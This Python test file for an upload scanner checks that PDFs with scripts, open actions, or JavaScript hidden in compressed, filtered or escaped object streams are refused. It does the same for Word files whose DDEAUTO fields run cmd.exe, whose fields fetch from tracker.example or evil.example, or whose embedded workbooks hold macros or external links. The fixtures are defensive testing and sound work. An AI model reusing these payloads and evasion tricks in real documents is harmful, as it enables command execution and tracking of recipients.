"""The content checks' pure parts (network.uploads): PDF names decoded as the PDF
specification says, whatever their spelling; Office packages; text. No database."""

import base64
import io
import string
import warnings
import zipfile
import zlib

from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from network import uploads
from tests.network import upload_files as files

REGULAR = [c for c in string.printable.encode() if c not in b"\t\n\x0b\x0c\r ()<>[]{}/%#"]


def spell(name: bytes, escapes: list[bool]) -> bytes:
    """The name with each byte written as itself or as #xx."""
    return b"".join(
        b"#%02x" % byte if escape or byte not in REGULAR else bytes([byte])
        for byte, escape in zip(name, escapes, strict=True)
    )


@given(
    st.binary(min_size=1, max_size=40).flatmap(
        lambda name: st.tuples(
            st.just(name), st.lists(st.booleans(), min_size=len(name), max_size=len(name))
        )
    )
)
def test_every_spelling_of_a_name_decodes_to_the_name(case):
    name, escapes = case
    assert uploads.decode_pdf_name(spell(name, escapes)) == name


@given(
    st.sampled_from([b"JavaScript", b"Launch", b"EmbeddedFile", b"RichMedia", b"SubmitForm"]),
    st.data(),
)
def test_every_spelling_of_an_active_name_is_found(name, data):
    escapes = data.draw(st.lists(st.booleans(), min_size=len(name), max_size=len(name)))
    upper = data.draw(st.booleans())
    spelled = spell(name.upper() if upper else name, escapes)
    pdf = files.pdf([b"<< /Type /Catalog /Pages 2 0 R /Names << /%s 6 0 R >> >>" % spelled])
    problem = uploads.pdf_problem(pdf)
    assert problem is not None and problem.reason == uploads.ACTIVE


def test_a_hash_without_two_hex_digits_stays_as_it_is():
    assert uploads.decode_pdf_name(b"A#2") == b"A#2"
    assert uploads.decode_pdf_name(b"A#zz") == b"A#zz"
    assert uploads.decode_pdf_name(b"A#20B") == b"A B"


def test_short_keys_count_only_with_a_value():
    # /JS, /AA and /OpenAction as keys with a value are actions; an /OpenAction array is a
    # destination (open at page 1, fit to the window), and stray letters in binary are not.
    assert (
        uploads.pdf_problem(files.pdf([b"<< /Type /Catalog /OpenAction [3 0 R /Fit] >>"])) is None
    )
    assert uploads.pdf_problem(b"%PDF-1.4\n" + b"\x01/JS\x02\xff") is None
    bodies = (b"/JS (x)", b"/#4a#53 <78>", b"/AA << >>", b"/OpenAction 6 0 R", b"/XFA [(t) 7 0 R]")
    for body in bodies:
        assert uploads.pdf_problem(files.pdf([b"<< %s >>" % body])).reason == uploads.ACTIVE


def test_a_clean_word_document_and_spreadsheet_pass():
    assert uploads.docx_problem(files.clean_docx()) is None
    assert uploads.office_problem(files.clean_docx()) is None


def test_the_same_member_twice_is_refused():
    """Readers disagree on which copy counts: one may check the harmless one and Word open
    the other."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate, as it should
        for name, content in [
            ("[Content_Types].xml", files.content_types()),
            ("word/document.xml", files.document_xml()),
            ("word/_rels/document.xml.rels", files.relationships()),
            ("word/_rels/document.xml.rels", files.relationships(("oleObject", "x.bin", None))),
        ]:
            archive.writestr(name, content)
    problem = uploads.docx_problem(out.getvalue())
    assert problem == uploads.Problem(uploads.FORMAT, "the same member twice")


def test_text_decoding():
    assert uploads.decode_text("é".encode()) == "é"
    assert uploads.decode_text(b"\xef\xbb\xbfabc") == "abc"
    assert uploads.decode_text(b"caf\xe9") is None
    assert uploads.decode_text(b"caf\xe9", "ISO-8859-1") == "café"
    assert uploads.decode_text(b"caf\xe9", "shift_jis") is None


# --- Gaps a review found (issue 22, finding 5) ---


def active(body: bytes) -> bool:
    problem = uploads.pdf_problem(files.pdf([b"<< /Type /Catalog /Pages 2 0 R %s >>" % body]))
    return problem is not None and problem.reason == uploads.ACTIVE


def test_a_comment_between_a_key_and_its_value_is_whitespace():
    """In PDF a %comment counts as whitespace: the key still has its value."""
    assert active(b"/OpenAction %x\n<< /S /Named /N /Print >>")
    assert active(b"/JS %x\n(app.alert\\(1\\))")
    assert active(b"/AA %one\r%two\n 6 0 R")
    assert active(b"/XFA [ %x\n(template) 7 0 R]")


def test_an_open_action_or_additional_action_that_is_a_dictionary_or_reference_is_refused():
    for body in (b"/OpenAction << /S /Named /N /Print >>", b"/OpenAction 6 0 R", b"/AA 6 0 R"):
        assert active(body)
    assert not active(b"/OpenAction [3 0 R /XYZ 0 792 1.5]")  # a page and a zoom


def test_remote_and_multimedia_actions_are_refused():
    for name in (b"Rendition", b"GoToR", b"Sound", b"Movie"):
        assert active(b"/Names << /X << /S /%s /F (other.pdf) >> >>" % name), name


def field_docx(body: str, part: str = "word/document.xml") -> bytes:
    return files.clean_docx(**{part: files.document_xml(body)})


def run(instruction: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'


def field(*pieces: str) -> str:
    """A complex field: begin, its instruction in pieces (Word splits it into runs), end."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(run(piece) for piece in pieces)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def test_word_fields_that_load_or_run_something_are_refused():
    """DDE and DDEAUTO start a program, INCLUDETEXT and INCLUDEPICTURE fetch a file or an
    address: in a complex field (even split across runs, in any case) or a simple one."""
    cases = [
        field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
        field(" dd", 'eAuto cmd "/c calc"'),
        field(' DDE "c:\\\\windows\\\\cmd.exe" "/c calc"'),
        field(' INCLUDEPICTURE "https://tracker.example/p.png" \\d '),
        field(' includetext "\\\\\\\\evil.example\\\\share\\\\x.docx" '),
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE https://tracker.example/p.png">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
    ]
    for body in cases:
        problem = uploads.docx_problem(field_docx(body))
        assert problem is not None and problem.reason == uploads.REMOTE, body
    header = uploads.docx_problem(field_docx(field(" DDEAUTO cmd "), "word/header1.xml"))
    assert header is not None and header.reason == uploads.REMOTE


def test_ordinary_word_fields_pass():
    body = (
        field(" PAGE \\* MERGEFORMAT ")
        + field(' HYPERLINK "https://example.org/dde-and-includetext" ')
        + field(" TOC \\o ", '"1-3" \\h ')
        + '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple></w:p>'
    )
    assert uploads.docx_problem(field_docx(body)) is None


SCRIPT_OBJECT = b"1 0 << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript >> >>"


def pdf_with_hidden_object_stream(dictionary: bytes, *, keyword: bytes = b"stream\n") -> bytes:
    """The catalog, with its opening script, kept in a compressed object stream whose
    dictionary is written to mislead a reader that looks back for `obj`."""
    data = zlib.compress(SCRIPT_OBJECT)
    body = b"<< %s /Length %d >>\n%s%s\nendstream" % (dictionary, len(data), keyword, data)
    return files.pdf([b"<< /Type /Pages /Kids [] /Count 0 >>", body])


def test_a_script_in_any_compressed_stream_is_found_however_its_dictionary_is_written():
    object_stream = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    cases = [
        pdf_with_hidden_object_stream(object_stream + b" /X (obj)"),
        pdf_with_hidden_object_stream(object_stream + b" /Pad (" + b"x" * 5000 + b")"),
        pdf_with_hidden_object_stream(object_stream, keyword=b"stream  \r\n"),
        pdf_with_hidden_object_stream(b"/Filter /FlateDecode"),  # no /Type, /N or /First
        pdf_with_hidden_object_stream(b"/Filter [/Fl]", keyword=b"stream \n"),
    ]
    for pdf in cases:
        assert b"JavaScript" not in pdf
        problem = uploads.pdf_problem(pdf)
        assert problem is not None and problem.reason == uploads.ACTIVE, pdf[:300]


def test_a_script_behind_text_filters_is_found_and_images_are_left_alone():
    deflated = zlib.compress(SCRIPT_OBJECT)
    for dictionary, data in [
        (b"/Filter [/AHx /Fl]", deflated.hex().encode() + b">"),
        (b"/Filter [/A85 /Fl]", base64.a85encode(deflated) + b"~>"),
        (b"/Filter /AHx", SCRIPT_OBJECT.hex().encode() + b">"),
        (b"", SCRIPT_OBJECT),
    ]:
        pdf = files.pdf([b"<< /Type /Catalog >>", files.stream(dictionary, data)])
        problem = uploads.pdf_problem(pdf)
        assert problem is not None and problem.reason == uploads.ACTIVE, dictionary
    jpeg = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 30, 30)).save(jpeg, "JPEG")
    image = files.stream(
        b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /DCTDecode",
        jpeg.getvalue(),
    )
    assert (
        uploads.pdf_problem(files.pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *files.PAGES, image]))
        is None
    )
    assert uploads.pdf_problem(files.clean_pdf()) is None


def test_an_encrypted_pdf_is_refused_with_a_way_forward():
    """Encrypted strings and streams cannot be read: the person is asked to remove the
    password."""
    encrypt = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1028 /O <00> /U <00> >>"
    pdf = files.pdf([b"<< /Type /Catalog >>", encrypt], trailer=b"/Encrypt 2 0 R /ID [<01><01>] ")
    problem = uploads.pdf_problem(pdf)
    assert problem is not None and problem.reason == uploads.ENCRYPTED
    message = uploads.refusal(problem, "brief.pdf").messages[0]
    assert "“brief.pdf” is protected by a password" in message
    assert "remove the password" in message


# --- A Word document with a chart ---

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_MAIN = XLSX + ".main+xml"
CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
C = "http://schemas.openxmlformats.org/drawingml/2006/chart"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"


def workbook(**parts: str | bytes) -> bytes:
    """The spreadsheet Word writes for a chart's data: one sheet of numbers."""
    overrides = {"/xl/workbook.xml": SHEET_MAIN}
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
        + '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    members = {
        "[Content_Types].xml": types,
        "_rels/.rels": files.relationships(("officeDocument", "xl/workbook.xml", None)),
        "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{files.R}"><sheets>'
        '<sheet name="Feuil1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": files.relationships(
            ("worksheet", "worksheets/sheet1.xml", None)
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Mois</t></is></c><c r="B1"><v>12</v></c>'
        "</row></sheetData></worksheet>",
    }
    members.update(parts)
    return files.write_zip(members)


def chart_docx(embedded: bytes, name: str = "Microsoft_Excel_Worksheet.xlsx") -> bytes:
    """A Word document with a native chart, its data in an embedded workbook (as Word
    writes it: a `package` relationship from the chart part)."""
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><wp:extent cx="5486400" cy="3200400"/>'
        f'<wp:docPr id="1" name="Graphique 1"/><a:graphic xmlns:a="{A}">'
        f'<a:graphicData uri="{C}"><c:chart xmlns:c="{C}" r:id="rId5"/></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    chart = (
        f'<c:chartSpace xmlns:c="{C}" xmlns:r="{files.R}"><c:chart><c:plotArea>'
        '<c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/>'
        "<c:val><c:numRef><c:f>Feuil1!$B$1</c:f></c:numRef></c:val></c:ser></c:barChart>"
        '</c:plotArea></c:chart><c:externalData r:id="rId1"><c:autoUpdate val="0"/>'
        "</c:externalData></c:chartSpace>"
    )
    return files.clean_docx(
        **{
            "[Content_Types].xml": files.content_types(
                defaults={"xlsx": XLSX}, overrides={"/word/charts/chart1.xml": CHART}
            ),
            "word/document.xml": files.document_xml(drawing),
            "word/_rels/document.xml.rels": files.relationships(
                ("styles", "styles.xml", None),
                ("settings", "settings.xml", None),
                ("hyperlink", "https://example.org/guide.html", "External"),
                ("image", "media/image1.png", None),
                ("chart", "charts/chart1.xml", None),
            ),
            "word/charts/chart1.xml": chart,
            "word/charts/_rels/chart1.xml.rels": files.relationships(
                ("package", f"../embeddings/{name}", None)
            ),
            f"word/embeddings/{name}": embedded,
        }
    )


def test_a_word_document_with_a_native_chart_passes():
    assert uploads.docx_problem(chart_docx(workbook())) is None


def test_a_chart_whose_workbook_has_macros_or_links_is_refused():
    macros = workbook(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1VBA"})
    linked = workbook(
        **{
            "xl/_rels/workbook.xml.rels": files.relationships(
                ("worksheet", "worksheets/sheet1.xml", None),
                ("externalLink", "externalLinks/externalLink1.xml", None),
            ),
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}"/>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": files.relationships(
                ("externalLinkPath", "https://evil.example/data.xlsx", "External")
            ),
        }
    )
    cases = [
        (chart_docx(macros), uploads.EMBEDDED),
        (chart_docx(files.macro_workbook(), "Microsoft_Excel_Macro-Enabled.xlsm"), None),
        (chart_docx(linked), uploads.REMOTE),
        (chart_docx(b"not a zip"), uploads.FORMAT),
        (chart_docx(files.clean_docx()), uploads.FORMAT),  # a Word document, not a workbook
    ]
    for data, reason in cases:
        problem = uploads.docx_problem(data)
        assert problem is not None, reason
        assert reason is None or problem.reason == reason, problem


def test_a_workbook_embedded_other_than_as_a_chart_s_data_is_still_refused():
    data = files.clean_docx(
        **{
            "[Content_Types].xml": files.content_types(defaults={"xlsx": XLSX}),
            "word/_rels/document.xml.rels": files.relationships(
                ("styles", "styles.xml", None),
                ("package", "embeddings/Microsoft_Excel_Worksheet.xlsx", None),
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook(),
        }
    )
    assert uploads.docx_problem(data).reason == uploads.EMBEDDED


def test_an_object_stream_with_a_predictor_is_refused_and_streams_have_a_budget(monkeypatch):
    predicted = pdf_with_hidden_object_stream(
        b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode "
        b"/DecodeParms << /Predictor 12 /Columns 5 >>"
    )
    assert uploads.pdf_problem(predicted).reason == uploads.FORMAT
    monkeypatch.setattr(uploads, "MAX_PDF_INFLATED_BYTES", 1000)
    large = files.stream(b"/Filter /FlateDecode", zlib.compress(b" " * 2000))
    problem = uploads.pdf_problem(files.pdf([b"<< /Type /Catalog >>", large]))
    assert problem.reason == uploads.UNPACKED
